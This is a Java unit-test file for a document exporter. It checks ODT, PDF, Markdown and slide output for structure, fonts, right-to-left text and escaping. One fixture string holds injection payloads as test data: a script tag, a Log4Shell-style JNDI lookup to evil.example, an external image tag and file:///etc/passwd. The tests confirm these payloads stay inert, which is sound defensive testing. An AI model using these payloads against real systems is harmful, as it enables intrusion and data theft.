package org.pathfinder.web.document;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;

import javax.imageio.ImageIO;
import javax.xml.parsers.DocumentBuilderFactory;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.documentinterchange.logicalstructure.PDStructureElement;
import org.apache.pdfbox.pdmodel.documentinterchange.logicalstructure.PDStructureNode;
import org.apache.pdfbox.pdmodel.font.PDFont;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.rendering.PDFRenderer;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xslf.usermodel.XSLFPictureShape;
import org.apache.poi.xslf.usermodel.XSLFSlide;
import org.apache.poi.xslf.usermodel.XSLFTextShape;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.openxmlformats.schemas.presentationml.x2006.main.CTPicture;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;
import org.xml.sax.InputSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

/** What is written is read back, as other programs read it. */
class DocumentTest {

	private static final String WELSH = "Ynys Môn, Tŷ Ŵyn a’r Ŷd";

	private static final String POLISH = "Zażółć gęślą jaźń, Łódź";

	private static final String HEBREW = "שרה לוי";

	private static final String ARABIC = "فاطمة السلامي";

	private static final String LONG = "Llanfair".repeat(120);

	private static final String HOSTILE = "<script>alert(1)</script> &amp; ]]> \u0007 <text:p/> "
			+ "<img src=\"http://evil.example/x\"> ${jndi:ldap://evil.example} file:///etc/passwd **bold** [a](b) \uD800";

	private static final Document DOCUMENT = new Document("Tablets & teapots " + WELSH,
			List.of(Block.Paragraph.of("First line of it\nSecond line  with two spaces\tand a tab"),
					new Block.Heading(2, "What we did"), Block.Paragraph.of(POLISH), Block.Paragraph.of(HOSTILE),
					Block.Paragraph.of(LONG), Block.Paragraph.of(HEBREW),
					Block.Paragraph.of("Told by " + ARABIC + " (Leeds)"),
					new Block.Bullets(List.of("One thing", "Another thing")),
					new Block.Quote("They lent me one", "Workshop attendee"),
					new Block.Picture("https://pathfinder.example/p/1", "image/png", picture(300, 200), 300, 200,
							"Six tablets <on> a table"),
					new Block.NewPage(), new Block.Heading(2, "Where this comes from"),
					new Block.Paragraph(List.of(new Block.Words("You can use it under the ", null),
							new Block.Words("Open Government Licence", "https://licence.example/3/"),
							new Block.Words(", as long as you say whose it is.", null)))));

	@Test
	void anOdtHoldsHeadingsListsQuotesLinksAndPicturesWithTheirWords() throws Exception {
		Map<String, byte[]> files = unzip(DocumentFormat.ODT.write(DOCUMENT));

		assertThat(files.keySet()).containsExactly("mimetype", "META-INF/manifest.xml", "styles.xml", "meta.xml",
				"content.xml", "Pictures/1.png");
		assertThat(new String(files.get("mimetype"), StandardCharsets.US_ASCII))
			.isEqualTo("application/vnd.oasis.opendocument.text");
		var content = parse(files.get("content.xml"));
		assertThat(texts(content, "text:h")).containsExactly("Tablets & teapots " + WELSH, "What we did",
				"Where this comes from");
		assertThat(texts(content, "text:p")).contains(POLISH, LONG, HEBREW, "‘They lent me one’",
				"— Workshop attendee");
		assertThat(texts(content, "text:list-item")).containsExactly("One thing", "Another thing");
		assertThat(texts(content, "svg:title")).containsExactly("Six tablets <on> a table");
		assertThat(((Element) content.getElementsByTagName("text:a").item(0)).getAttribute("xlink:href"))
			.isEqualTo("https://licence.example/3/");
		assertThat(content.getElementsByTagName("text:line-break").getLength()).isOne();
		assertThat(texts(parse(files.get("meta.xml")), "dc:title")).containsExactly("Tablets & teapots " + WELSH);
		assertThat(ImageIO.read(new ByteArrayInputStream(files.get("Pictures/1.png"))).getWidth()).isEqualTo(300);
		for (String each : List.of("META-INF/manifest.xml", "styles.xml")) {
			assertThat(parse(files.get(each))).isNotNull();
		}
	}

	@Test
	void whatSomebodyWroteIsTextAndLeadsNowhere() throws Exception {
		var content = parse(unzip(DocumentFormat.ODT.write(DOCUMENT)).get("content.xml"));

		assertThat(texts(content, "text:p")).anySatisfy(
				(text) -> assertThat(text).contains("<script>alert(1)</script> &amp; ]]>", "file:///etc/passwd"));
		assertThat(content.getElementsByTagName("text:a").getLength()).isOne();
		assertThat(content.getElementsByTagName("draw:image").getLength()).isOne();
		String markdown = new String(DocumentFormat.MD.write(DOCUMENT), StandardCharsets.UTF_8);
		assertThat(markdown).contains("\\<script\\>", "\\&amp;", "\\*\\*bold\\*\\*", "\\[a\\](b)")
			.doesNotContain(" <img", " [a]");
		try (PDDocument pdf = Loader.loadPDF(DocumentFormat.PDF.write(DOCUMENT))) {
			assertThat(links(pdf)).containsExactly("https://licence.example/3/");
			assertThat(text(pdf)).contains("<script>alert(1)</script>");
			assertThat(pdf.getDocumentCatalog().getOpenAction()).isNull();
		}
	}

	@Test
	void markdownIsReadableAsItIs() {
		String markdown = new String(DocumentFormat.MD.write(DOCUMENT), StandardCharsets.UTF_8);

		assertThat(markdown).startsWith("# Tablets \\& teapots " + WELSH + "\n\nFirst line of it\nSecond line")
			.contains("\n## What we did\n", "\n- One thing\n- Another thing\n",
					"\n> They lent me one\n\n— Workshop attendee\n",
					"![Six tablets \\<on\\> a table](https://pathfinder.example/p/1)",
					"under the [Open Government Licence](https://licence.example/3/), as long");
	}

	@Test
	void aPdfSaysWhatEachPartOfItIsAndNothingIsMissing() throws IOException {
		try (PDDocument pdf = Loader.loadPDF(DocumentFormat.PDF.write(DOCUMENT))) {
			String text = text(pdf);

			assertThat(text).contains("Tablets & teapots", "Ynys Môn, Tŷ Ŵyn\na’r Ŷd", POLISH,
					"Second line  with two spaces and a tab", "‘They lent me one’", "— Workshop attendee",
					"Another thing", "Open Government Licence");
			assertThat(text.replaceAll("\\s", "")).contains(LONG);
			assertThat(pdf.getNumberOfPages()).isEqualTo(2);
			assertThat(pdf.getDocumentCatalog().getLanguage()).isEqualTo("en-GB");
			assertThat(pdf.getDocumentCatalog().getMarkInfo().isMarked()).isTrue();
			assertThat(pdf.getDocumentInformation().getTitle()).isEqualTo("Tablets & teapots " + WELSH);
			List<PDStructureElement> elements = elements(pdf.getDocumentCatalog().getStructureTreeRoot());
			assertThat(elements).extracting(PDStructureElement::getStructureType)
				.contains("Document", "H1", "H2", "P", "L", "LI", "Lbl", "LBody", "BlockQuote", "Figure", "Link");
			assertThat(elements).filteredOn((element) -> "Figure".equals(element.getStructureType()))
				.extracting(PDStructureElement::getAlternateDescription)
				.containsExactly("Six tablets <on> a table");
			assertThat(pdf.getDocumentCatalog().getDocumentOutline().getFirstChild().getTitle())
				.startsWith("Tablets & teapots");
		}
	}

	@Test
	void everyFontIsInTheFile() throws IOException {
		try (PDDocument pdf = Loader.loadPDF(DocumentFormat.PDF.write(DOCUMENT))) {
			for (PDPage page : pdf.getPages()) {
				for (COSName name : page.getResources().getFontNames()) {
					PDFont font = page.getResources().getFont(name);
					assertThat(font.isEmbedded()).as(font.getName()).isTrue();
				}
			}
		}
	}

	@Test
	void namesFromRightToLeftAreDrawnSoAndReadInTheirOwnOrder() throws IOException {
		try (PDDocument pdf = Loader.loadPDF(DocumentFormat.PDF.write(DOCUMENT))) {
			assertThat(text(pdf)).contains("לוי");
			assertThat(pdf.getPage(0).getResources().getPropertiesNames()).anySatisfy((name) -> assertThat(
					pdf.getPage(0).getResources().getProperties(name).getCOSObject().getString(COSName.ACTUAL_TEXT))
				.isEqualTo("Told by " + ARABIC + " (Leeds)"));
		}
		assertThat(
				RightToLeft.seen("ab " + HEBREW, false).stream().map(RightToLeft.Seen::text).reduce("", String::concat))
			.isEqualTo("ab " + new StringBuilder(HEBREW).reverse());
		assertThat(RightToLeft.shaped("سلام")).isEqualTo("\uFEB3\uFEFC\uFEE1");
		assertThat(RightToLeft.shaped("باب")).isEqualTo("\uFE91\uFE8E\uFE8F");
		assertThat(RightToLeft.shaped("ب\u064Eا\u0650ل\u0651ا"))
			.isEqualTo("\uFE91\u064E\uFE8E\u0650\uFEDF\u0651\uFE8E");
	}

	@Test
	void whatBeginsALineInMarkdownIsOnlyText() {
		assertThat(MarkdownWriting.plain("1. a\n- b\n\n \t+ c\r\n \r\n\r2) d\u2028=e\n12-\n -1"))
			.isEqualTo("1\\. a\n\\- b\n\n \t\\+ c\r\n \r\n\r2\\) d\u2028\\=e\n12\\-\n \\-1");
	}

	/** No letter and no line looks at all the others. */
	@Test
	void aLongTextOfNothingIsWrittenLikeAShortOne() {
		for (String nothing : List.of("\n", "\r", "\r\n", " \n", "1\n", " ", "1")) {
			String many = nothing.repeat(500_000);

			assertThat(MarkdownWriting.plain("-" + many + "x\n-")).isEqualTo("\\-" + many + "x\n\\-");
			assertThat(MarkdownWriting.plain(many + "x")).isEqualTo(many + "x");
		}
		String marks = "\u064E".repeat(500_000);
		assertThat(RightToLeft.shaped("ب" + marks + "ب" + marks)).isEqualTo("\uFE91" + marks + "\uFE90" + marks);
		assertThat(RightToLeft.shaped(marks + "ب")).isEqualTo(marks + "\uFE8F");
	}

	/** Letters of the world that no font of ours has are told by what they are. */
	@Test
	void lettersThatCannotBeDrawnAreStillRead() throws IOException {
		var document = new Document("Told by 李明", List.of(Block.Paragraph.of("😀")));

		try (PDDocument pdf = Loader.loadPDF(DocumentFormat.PDF.write(document))) {
			assertThat(pdf.getPage(0).getResources().getPropertiesNames()).anySatisfy((name) -> assertThat(
					pdf.getPage(0).getResources().getProperties(name).getCOSObject().getString(COSName.ACTUAL_TEXT))
				.isEqualTo("Told by 李明"));
		}
	}

	@ParameterizedTest
	@EnumSource
	void nothingAtAllIsADocumentToo(DocumentFormat format) {
		assertThat(format.write(new Document("Empty", List.of(new Block.NewPage())))).isNotEmpty();
	}

	@ParameterizedTest
	@EnumSource
	void aPictureThatIsNoneIsNoFault(DocumentFormat format) {
		var broken = new Block.Picture("https://pathfinder.example/p/1", "image/png", "none".getBytes(), 10, 10,
				"A hall");

		assertThat(format.write(new Document("Broken", List.of(broken)))).isNotEmpty();
	}

	@Test
	void aPdfGoesOnAsLongAsThereIsSomethingToSay() throws IOException {
		List<Block> many = IntStream.range(0, 300)
			.mapToObj((number) -> (Block) Block.Paragraph.of("Paragraph %d of it. ".formatted(number).repeat(20)))
			.toList();

		try (PDDocument pdf = Loader.loadPDF(DocumentFormat.PDF.write(new Document("Long", many)))) {
			assertThat(pdf.getNumberOfPages()).isGreaterThan(30);
			assertThat(text(pdf)).contains("Paragraph 0 of it", "Paragraph 299 of it");
		}
	}

	@Test
	void noOtherKindOfFileIsWritten() {
		assertThatExceptionOfType(NoSuchDocument.class).isThrownBy(() -> DocumentFormat.of("docx"));
		assertThatExceptionOfType(NoSuchDocument.class).isThrownBy(() -> DocumentFormat.of("PDF"));
	}

	@Test
	void slidesHaveTitlesWordsAndNotes() throws IOException {
		var picture = new Block.Picture("/p/1", "image/png", picture(300, 200), 300, 200, "Six tablets " + HOSTILE);
		List<Slide> slides = List.of(new Slide("Launch " + WELSH, "Leeds", List.of(), null, ""),
				new Slide("Tablets <lent>", "Leeds City Council",
						List.of(new Slide.Part(null, "In short"), new Slide.Part("What changed", "Much\n" + POLISH)),
						picture, "Open Government Licence v3.0", "All of it: " + HOSTILE));

		try (var show = new XMLSlideShow(new ByteArrayInputStream(Slides.write(slides)))) {
			assertThat(show.getSlides()).extracting((slide) -> slide.getTitle())
				.containsExactly("Launch " + WELSH, "Tablets <lent>");
			assertThat(show.getSlides().getLast().getPlaceholder(1).getText()).contains("Leeds City Council",
					"In short", "What changed", POLISH);
			assertThat(show.getPictureData()).hasSize(1);
			assertThat(show.getSlides().getLast().getShapes())
				.anySatisfy((shape) -> assertThat(shape).isInstanceOfSatisfying(XSLFPictureShape.class,
						(shown) -> assertThat(((CTPicture) shown.getXmlObject()).getNvPicPr().getCNvPr().getDescr())
							.contains("Six tablets", "<script>alert(1)</script>")))
				.anySatisfy((shape) -> assertThat(shape).isInstanceOfSatisfying(XSLFTextShape.class,
						(text) -> assertThat(text.getText()).isEqualTo("Open Government Licence v3.0")));
			assertThat(show.getSlides().getLast().getNotes().getPlaceholders()).extracting(XSLFTextShape::getText)
				.anySatisfy((text) -> assertThat(text).contains("All of it", "<script>alert(1)</script>"));
		}
	}

	@Test
	void wordsOnASlideLeaveRoomForItsPictureAndThoseWithoutOneHaveAllOfIt() throws IOException {
		var picture = new Block.Picture("/p/1", "image/png", picture(300, 200), 300, 200, "Six tablets");
		var parts = List.of(new Slide.Part(null, "In short"));
		List<Slide> slides = List.of(new Slide("Launch", "Leeds", List.of(), null, ""),
				new Slide("With one", "Leeds", parts, picture, null, ""),
				new Slide("Without", "Leeds", parts, null, ""));

		try (var show = new XMLSlideShow(new ByteArrayInputStream(Slides.write(slides)))) {
			List<Double> tops = show.getSlides()
				.stream()
				.map((slide) -> slide.getPlaceholder(0).getAnchor().getY())
				.toList();
			assertThat(tops.getFirst()).isGreaterThan(tops.getLast());
			XSLFSlide with = show.getSlides().get(1);
			double wordsEnd = with.getPlaceholder(1).getAnchor().getMaxX();
			assertThat(with.getShapes())
				.anySatisfy((shape) -> assertThat(shape).isInstanceOfSatisfying(XSLFPictureShape.class,
						(shown) -> assertThat(shown.getAnchor().getX()).isGreaterThan(wordsEnd)));
			assertThat(show.getSlides().getLast().getPlaceholder(1).getAnchor().getMaxX()).isGreaterThan(wordsEnd);
		}
	}

	/** To look at with one's own eyes: {@code -Dpathfinder.documents=folder}. */
	@Test
	void picturesOfThePages() throws IOException {
		String folder = System.getProperty("pathfinder.documents");
		byte[] bytes = DocumentFormat.PDF.write(DOCUMENT);
		try (PDDocument pdf = Loader.loadPDF(bytes)) {
			BufferedImage drawn = new PDFRenderer(pdf).renderImageWithDPI(0, 90);

			assertThat(drawn.getWidth()).isGreaterThan(700);
			if (folder != null) {
				ImageIO.write(drawn, "png", Path.of(folder, "document.png").toFile());
				Files.write(Path.of(folder, "document.pdf"), bytes);
				Files.write(Path.of(folder, "document.odt"), DocumentFormat.ODT.write(DOCUMENT));
			}
		}
	}

	private static String text(PDDocument pdf) throws IOException {
		return new PDFTextStripper().getText(pdf);
	}

	private static List<String> links(PDDocument pdf) throws IOException {
		var links = new ArrayList<String>();
		for (PDPage page : pdf.getPages()) {
			for (PDAnnotation annotation : page.getAnnotations()) {
				links.add(((PDActionURI) ((PDAnnotationLink) annotation).getAction()).getURI());
			}
		}
		return links;
	}

	private static List<PDStructureElement> elements(PDStructureNode node) {
		return node.getKids()
			.stream()
			.filter(PDStructureElement.class::isInstance)
			.map(PDStructureElement.class::cast)
			.flatMap((element) -> Stream.concat(Stream.of(element), elements(element).stream()))
			.toList();
	}

	private static Map<String, byte[]> unzip(byte[] file) throws IOException {
		var files = new LinkedHashMap<String, byte[]>();
		try (var zip = new ZipInputStream(new ByteArrayInputStream(file))) {
			for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
				files.put(entry.getName(), zip.readAllBytes());
			}
		}
		return files;
	}

	private static org.w3c.dom.Document parse(byte[] xml) throws Exception {
		return DocumentBuilderFactory.newInstance()
			.newDocumentBuilder()
			.parse(new InputSource(new StringReader(new String(xml, StandardCharsets.UTF_8))));
	}

	private static List<String> texts(org.w3c.dom.Document content, String element) {
		NodeList found = content.getElementsByTagName(element);
		return IntStream.range(0, found.getLength()).mapToObj((at) -> found.item(at).getTextContent()).toList();
	}

	private static byte[] picture(int width, int height) {
		var out = new ByteArrayOutputStream();
		try {
			ImageIO.write(new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB), "png", out);
		}
		catch (IOException failure) {
			throw new IllegalStateException(failure);
		}
		return out.toByteArray();
	}

}
